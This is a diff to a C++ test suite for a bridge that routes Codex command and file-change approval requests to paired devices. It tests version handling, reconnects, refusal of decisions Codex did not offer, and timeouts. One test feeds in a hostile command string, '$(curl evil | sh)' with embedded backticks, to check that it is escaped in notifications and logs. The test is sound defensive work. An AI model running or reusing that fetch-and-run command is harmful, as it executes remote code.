@@ -592,7 +592,7 @@ TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhil
 // ---------------------------------------------------------------------------------------------
 // Approvals
 
-TEST_F(BridgeControllerTest, ApprovalsGoToTheFirstAuthorisedDeviceOnly) {
+TEST_F(BridgeControllerTest, VersionOneApprovalsGoToTheFirstAuthorisedDeviceOnly) {
     auto stranger = connectDevice("Stranger");
     auto first = pairDevice("First");
     auto second = pairDevice("Second");
@@ -615,7 +615,14 @@ TEST_F(BridgeControllerTest, ApprovalsGoToTheFirstAuthorisedDeviceOnly) {
     link->deliver(second->peer, makeMessage(BridgeMessageKind::serverResponse, "unknown"));
     link->deliver(second->peer, makeMessage(BridgeMessageKind::serverResponse));
     EXPECT_TRUE(appServer->replies.empty());
-    JSONValue decision = JSONObject{{"decision", "maybe"}};
+    // A word Codex did not offer is refused and the question stays open for a real answer.
+    link->deliver(second->peer, makeMessage(BridgeMessageKind::serverResponse, question.id, {},
+                                            JSONValue(JSONObject{{"decision", "maybe"}})));
+    EXPECT_TRUE(appServer->replies.empty());
+    EXPECT_EQ(lastSentTo(second->peer),
+              makeMessage(BridgeMessageKind::error, question.id, {},
+                          JSONValue("Codex did not offer that decision for this question.")));
+    JSONValue decision = JSONObject{{"decision", "cancel"}};
     link->deliver(second->peer,
                   makeMessage(BridgeMessageKind::serverResponse, question.id, {}, decision));
     ASSERT_EQ(appServer->replies.size(), 1u);
@@ -624,9 +631,14 @@ TEST_F(BridgeControllerTest, ApprovalsGoToTheFirstAuthorisedDeviceOnly) {
     link->deliver(first->peer,
                   makeMessage(BridgeMessageKind::serverResponse, question.id, {}, decision));
     EXPECT_EQ(appServer->replies.size(), 1u);
+    // Nothing a version-1 device did not see before: no note of how the question ended.
+    for (const auto& sent : link->sent) {
+        EXPECT_NE(sent.message.kind, BridgeMessageKind::serverRequestSettled);
+    }
 }
 
-TEST_F(BridgeControllerTest, TheBridgeDeclinesWhenNoDeviceCanBeAsked) {
+TEST_F(BridgeControllerTest, WithoutAWaitLimitTheBridgeDeclinesWhenNoDeviceCanBeAsked) {
+    controller->approvals().setWaitLimit(std::chrono::milliseconds(0));
     const JSONValue decline = JSONObject{{"decision", "decline"}};
     appServer->ask(JSONValue(0), "item/commandExecution/requestApproval", JSONObject{});
     ASSERT_EQ(appServer->replies.size(), 1u);
@@ -658,6 +670,9 @@ TEST_F(BridgeControllerTest, AQuestionOutlivesADisconnectAndAnEmptyAnswerDecline
     link->deliver(again, makeMessage(BridgeMessageKind::hello, {}, {},
                                      device->signer.hello("Phone").toJSON()));
     ASSERT_TRUE(controller->authorizedPeerNames().contains("Phone"));
+    // A version-1 device is asked once, as it always was: it keeps the id it was given.
+    ASSERT_TRUE(flushMainQueue());
+    EXPECT_EQ(link->sentTo(again).size(), 2u) << "hello and pairingAccepted only";
     link->deliver(again, makeMessage(BridgeMessageKind::serverResponse, questionID));
     ASSERT_EQ(appServer->replies.size(), 1u);
     EXPECT_EQ(appServer->replies[0].id, JSONValue(5));
@@ -919,6 +934,308 @@ TEST_F(HandshakeV2Test, AVersionOneRecordIsUpgradedWhenItsDeviceProvesItselfWith
     device = connectV2("Phone", std::nullopt, std::move(device));
     EXPECT_EQ(lastSentTo(device->peer), acceptedV2);
     EXPECT_EQ(trustStore->peers.begin()->second.protocolVersion, 2);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Approvals that wait, are shown on every version-2 session and are settled
+
+namespace {
+
+using namespace std::chrono_literals;
+
+constexpr const char* commandMethod = "item/commandExecution/requestApproval";
+constexpr const char* fileMethod = "item/fileChange/requestApproval";
+
+// An object-shaped decision as Codex lists it among its "availableDecisions".
+const JSONValue amendment = JSONObject{
+    {"acceptWithExecpolicyAmendment",
+     JSONObject{{"execpolicy_amendment", JSONArray{JSONValue("npm"), JSONValue("test")}}}}};
+
+JSONValue commandParams(const std::string& command = "npm test") {
+    return JSONObject{
+        {"threadId", "t1"},
+        {"turnId", "u1"},
+        {"itemId", "i1"},
+        {"startedAtMs", 1733570000000.0},
+        {"command", command},
+        {"cwd", "/work/app"},
+        {"availableDecisions", JSONArray{JSONValue("accept"), amendment, JSONValue("cancel")}}};
+}
+
+class ApprovalsTest : public HandshakeV2Test {
+protected:
+    std::unique_ptr<V2Device> pairV2(const std::string& name) {
+        auto device = connectV2(name);
+        requestPairing(*device);
+        controller->accept(controller->pairingRequests().back());
+        EXPECT_TRUE(flushMainQueue());
+        return device;
+    }
+    std::unique_ptr<V2Device> returnV2(std::unique_ptr<V2Device> device, const std::string& name) {
+        device = connectV2(name, std::nullopt, std::move(device));
+        EXPECT_TRUE(flushMainQueue());
+        return device;
+    }
+    std::vector<BridgeMessage> ofKind(const PeerHandle& peer, BridgeMessageKind kind) {
+        std::vector<BridgeMessage> found;
+        for (const auto& sent : link->sentTo(peer)) {
+            if (sent.kind == kind) {
+                found.push_back(sent);
+            }
+        }
+        return found;
+    }
+    static JSONValue shown(const JSONValue& params, double waited) {
+        return JSONObject{{"params", params}, {"waitedSeconds", waited}};
+    }
+};
+
+} // namespace
+
+TEST_F(ApprovalsTest, EveryVersionTwoSessionIsShownEveryOpenQuestionAgainAfterItAuthenticates) {
+    auto phone = pairV2("Phone");
+    auto laptop = pairV2("Laptop");
+    auto old = pairDevice("Old");
+    ASSERT_TRUE(flushMainQueue());
+    appServer->ask(JSONValue(0), commandMethod, commandParams());
+    const auto first = ofKind(phone->peer, BridgeMessageKind::serverRequest);
+    ASSERT_EQ(first.size(), 1u);
+    EXPECT_EQ(first[0].method, commandMethod);
+    EXPECT_EQ(first[0].body, shown(commandParams(), 0));
+    EXPECT_EQ(ofKind(laptop->peer, BridgeMessageKind::serverRequest), first);
+    // The version-1 device sees what it always saw: Codex's params as the body.
+    const auto toOld = ofKind(old->peer, BridgeMessageKind::serverRequest);
+    ASSERT_EQ(toOld.size(), 1u);
+    EXPECT_EQ(toOld[0].id, first[0].id);
+    EXPECT_EQ(toOld[0].body, commandParams());
+
+    // The phone's screen locked and came back: right after its pairingAccepted, the same id,
+    // with how long Codex has waited.
+    now += 42s;
+    link->disconnect(phone->peer);
+    phone = returnV2(std::move(phone), "Phone");
+    auto sent = link->sentTo(phone->peer);
+    ASSERT_GE(sent.size(), 2u);
+    EXPECT_EQ(sent[sent.size() - 2], acceptedV2);
+    EXPECT_EQ(sent.back().id, first[0].id);
+    EXPECT_EQ(sent.back().body, shown(commandParams(), 42));
+
+    // A second question; a session that comes back gets both, oldest first.
+    const JSONValue fileParams = JSONObject{{"threadId", "t2"}, {"turnId", "u9"}, {"itemId", "f"}};
+    appServer->ask(JSONValue("b"), fileMethod, fileParams);
+    link->disconnect(laptop->peer);
+    laptop = returnV2(std::move(laptop), "Laptop");
+    const auto both = ofKind(laptop->peer, BridgeMessageKind::serverRequest);
+    ASSERT_EQ(both.size(), 2u);
+    EXPECT_EQ(both[0].id, first[0].id);
+    EXPECT_EQ(both[1].method, fileMethod);
+    EXPECT_EQ(both[1].body, shown(fileParams, 0));
+
+    // A version-1 device that comes back is not asked again.
+    link->disconnect(old->peer);
+    PeerHandle oldAgain = link->connect("Old");
+    link->deliver(oldAgain,
+                  makeMessage(BridgeMessageKind::hello, {}, {}, old->signer.hello("Old").toJSON()));
+    ASSERT_TRUE(flushMainQueue());
+    EXPECT_TRUE(ofKind(oldAgain, BridgeMessageKind::serverRequest).empty());
+    EXPECT_EQ(controller->pendingServerRequestCount(), 2u);
+    EXPECT_TRUE(appServer->replies.empty());
+}
+
+TEST_F(ApprovalsTest, EverySessionShownAQuestionIsToldHowItEnded) {
+    const JSONValue decline = JSONObject{{"decision", "decline"}};
+    struct Case {
+        std::string name;
+        std::function<void(const std::string& bridgeID, const V2Device& laptop)> settle;
+        JSONValue outcome;
+        std::optional<JSONValue> reply;
+        // The laptop stays connected and is told at once; the phone is away and is told when
+        // it comes back.
+        bool laptopStays = true;
+    };
+    double asked = 0;
+    const std::vector<Case> cases = {
+        {"answered",
+         [&](const std::string& id, const V2Device& laptop) {
+             link->deliver(laptop.peer,
+                           makeMessage(BridgeMessageKind::serverResponse, id, {},
+                                       JSONValue(JSONObject{{"decision", amendment}})));
+         },
+         JSONObject{{"outcome", "answered"}, {"deviceName", "Laptop"}, {"decision", amendment}},
+         JSONValue(JSONObject{{"decision", amendment}})},
+        {"withdrawn by Codex",
+         [&](const std::string&, const V2Device&) {
+             appServer->notify("serverRequest/resolved",
+                               JSONObject{{"threadId", "t1"}, {"requestId", asked}});
+         },
+         JSONObject{{"outcome", "withdrawn"}}, std::nullopt},
+        {"turn ended",
+         [&](const std::string&, const V2Device&) {
+             appServer->notify("turn/completed",
+                               JSONObject{{"threadId", "t1"},
+                                          {"turn", JSONObject{{"id", "u1"},
+                                                              {"status", "interrupted"},
+                                                              {"items", JSONArray{}}}}});
+         },
+         JSONObject{{"outcome", "withdrawn"}}, std::nullopt},
+        {"restarted", [&](const std::string&, const V2Device&) { controller->restartAppServer(); },
+         JSONObject{{"outcome", "restarted"}}, std::nullopt},
+        {"timed out",
+         [&](const std::string&, const V2Device&) {
+             now += 10min;
+             EXPECT_TRUE(waitUntil([&] { return controller->pendingServerRequestCount() == 0; }));
+             EXPECT_EQ(controller->logs().front(),
+                       "Declined the command \"npm test\" after waiting 10 min: no paired "
+                       "device came back.");
+         },
+         JSONObject{{"outcome", "timedOut"}}, decline, false},
+    };
+    auto phone = pairV2("Phone");
+    auto laptop = pairV2("Laptop");
+    for (const Case& c : cases) {
+        SCOPED_TRACE(c.name);
+        const std::size_t replies = appServer->replies.size();
+        appServer->ask(JSONValue(asked), commandMethod, commandParams());
+        const std::string id = *ofKind(laptop->peer, BridgeMessageKind::serverRequest).back().id;
+        link->disconnect(phone->peer);
+        if (!c.laptopStays) {
+            link->disconnect(laptop->peer);
+        }
+        c.settle(id, *laptop);
+        ++asked;
+        EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
+        ASSERT_EQ(appServer->replies.size(), replies + (c.reply ? 1 : 0));
+        if (c.reply) {
+            EXPECT_EQ(appServer->replies.back().result, c.reply);
+        }
+        const BridgeMessage note =
+            makeMessage(BridgeMessageKind::serverRequestSettled, id, {}, c.outcome);
+        if (!c.laptopStays) {
+            laptop = returnV2(std::move(laptop), "Laptop");
+        }
+        EXPECT_EQ(ofKind(laptop->peer, BridgeMessageKind::serverRequestSettled).back(), note);
+        phone = returnV2(std::move(phone), "Phone");
+        EXPECT_EQ(ofKind(phone->peer, BridgeMessageKind::serverRequestSettled),
+                  std::vector<BridgeMessage>{note});
+        EXPECT_TRUE(ofKind(phone->peer, BridgeMessageKind::serverRequest).empty());
+    }
+}
+
+TEST_F(ApprovalsTest, OnlyADecisionCodexOfferedReachesCodex) {
+    const JSONValue offeredNothing = JSONObject{{"threadId", "t2"}, {"turnId", "u2"}};
+    struct Case {
+        std::string method;
+        JSONValue params;
+        std::vector<JSONValue> refused;
+        JSONValue answer;
+        JSONValue passed;
+    };
+    const std::vector<Case> cases = {
+        {commandMethod,
+         commandParams(),
+         {JSONObject{{"decision", "acceptForSession"}}, JSONObject{{"decision", "maybe"}},
+          // The same shape with a wider amendment than Codex proposed.
+          JSONObject{{"decision", JSONObject{{"acceptWithExecpolicyAmendment",
+                                              JSONObject{{"execpolicy_amendment",
+                                                          JSONArray{JSONValue("rm")}}}}}}},
+          JSONValue("accept"), JSONObject{{"decisions", "accept"}}},
+         JSONObject{{"decision", amendment}, {"note", "extra members are not passed on"}},
+         JSONObject{{"decision", amendment}}},
+        {fileMethod,
+         offeredNothing,
+         {JSONObject{{"decision", "maybe"}}, JSONObject{{"decision", JSONObject{{"accept", true}}}},
+          JSONObject{{"decision", JSONValue()}}},
+         JSONObject{{"decision", "acceptForSession"}},
+         JSONObject{{"decision", "acceptForSession"}}},
+    };
+    auto phone = pairV2("Phone");
+    auto old = pairDevice("Old");
+    ASSERT_TRUE(flushMainQueue());
+    for (const PeerHandle& answerer : {phone->peer, old->peer}) {
+        for (const Case& c : cases) {
+            SCOPED_TRACE(c.method);
+            appServer->replies.clear();
+            appServer->ask(JSONValue(7), c.method, c.params);
+            const std::string id = *ofKind(answerer, BridgeMessageKind::serverRequest).back().id;
+            for (const JSONValue& answer : c.refused) {
+                link->deliver(answerer,
+                              makeMessage(BridgeMessageKind::serverResponse, id, {}, answer));
+                EXPECT_EQ(lastSentTo(answerer),
+                          makeMessage(BridgeMessageKind::error, id, {},
+                                      JSONValue("Codex did not offer that decision for this "
+                                                "question.")));
+            }
+            EXPECT_TRUE(appServer->replies.empty());
+            EXPECT_EQ(controller->pendingServerRequestCount(), 1u);
+            link->deliver(answerer,
+                          makeMessage(BridgeMessageKind::serverResponse, id, {}, c.answer));
+            ASSERT_EQ(appServer->replies.size(), 1u);
+            EXPECT_EQ(appServer->replies[0].id, JSONValue(7));
+            EXPECT_EQ(appServer->replies[0].result, c.passed);
+        }
+    }
+}
+
+TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
+    QSignalSpy started(&controller->approvals(), &ApprovalRouter::waitingStarted);
+    QSignalSpy ended(&controller->approvals(), &ApprovalRouter::waitingEnded);
+    QSignalSpy turnEnded(&controller->approvals(), &ApprovalRouter::turnEndedUnattended);
+    std::vector<WaitingQuestion> waiting;
+    QObject::connect(&controller->approvals(), &ApprovalRouter::waitingStarted, controller.get(),
+                     [&](const WaitingQuestion& question) { waiting.push_back(question); });
+
+    // Asked while no device is connected: it waits, and the person is told what it is about,
+    // Codex's text made visible (no raw line break reaches a notification or the log).
+    const std::string hostile = "echo \"hi\"\n$(curl evil | sh) `id`";
+    appServer->ask(JSONValue(0), commandMethod, commandParams(hostile));
+    EXPECT_TRUE(appServer->replies.empty());
+    ASSERT_EQ(waiting.size(), 1u);
+    EXPECT_EQ(waiting[0].command, hostile);
+    EXPECT_EQ(waiting[0].cwd, "/work/app");
+    EXPECT_EQ(waiting[0].threadID, "t1");
+    EXPECT_EQ(waiting[0].shown.find('\n'), std::string::npos);
+    EXPECT_NE(waiting[0].shown.find("\\u{000A}"), std::string::npos) << waiting[0].shown;
+
+    // A device comes back in time: it is shown the question, which no longer waits; when it
+    // leaves again the wait starts over.
+    now += 9min;
+    auto phone = pairV2("Phone");
+    EXPECT_EQ(ofKind(phone->peer, BridgeMessageKind::serverRequest).size(), 1u);
+    EXPECT_EQ(ended.size(), 1);
+    link->disconnect(phone->peer);
+    ASSERT_EQ(started.size(), 2);
+    now += 9min;
+    ASSERT_TRUE(flushMainQueue());
+    EXPECT_TRUE(appServer->replies.empty());
+    now += 1min;
+    ASSERT_TRUE(waitUntil([&] { return !appServer->replies.empty(); }));
+    EXPECT_EQ(appServer->replies[0].result, JSONValue(JSONObject{{"decision", "decline"}}));
+    EXPECT_EQ(ended.size(), 2);
+    EXPECT_EQ(controller->logs().front().find('\n'), std::string::npos);
+    EXPECT_EQ(controller->logs().front().rfind("Declined the command \"echo ", 0), 0u);
+
+    // No limit: it waits as long as Codex does; a limit of zero declines at once, and then
+    // declines at once what is asked while nobody is there, without a wait.
+    controller->approvals().setWaitLimit(std::nullopt);
+    appServer->ask(JSONValue(1), fileMethod, JSONObject{{"threadId", "t1"}});
+    now += 24h;
+    ASSERT_TRUE(flushMainQueue());
+    EXPECT_EQ(appServer->replies.size(), 1u);
+    EXPECT_EQ(waiting.back().shown, "the file changes");
+    controller->approvals().setWaitLimit(0ms);
+    ASSERT_EQ(appServer->replies.size(), 2u);
+    EXPECT_EQ(controller->logs().front(),
+              "Declined the file changes after waiting 1440 min: no paired device came back.");
+    appServer->ask(JSONValue(2), fileMethod, JSONObject{});
+    ASSERT_EQ(appServer->replies.size(), 3u);
+    EXPECT_EQ(started.size(), 3);
+
+    // A turn that ends with nobody connected is news for the person.
+    appServer->notify("turn/completed",
+                      JSONObject{{"threadId", "t1"}, {"turn", JSONObject{{"id", "u1"}}}});
+    ASSERT_EQ(turnEnded.size(), 1);
+    EXPECT_EQ(turnEnded[0][0].value<std::string>(), "t1");
+    EXPECT_EQ(turnEnded[0][1].value<std::string>(), "/work/app");
 }
 
 TEST_F(BridgeControllerTest, ASecondHelloNeitherMovesAuthorityNorShieldsItFromForget) {
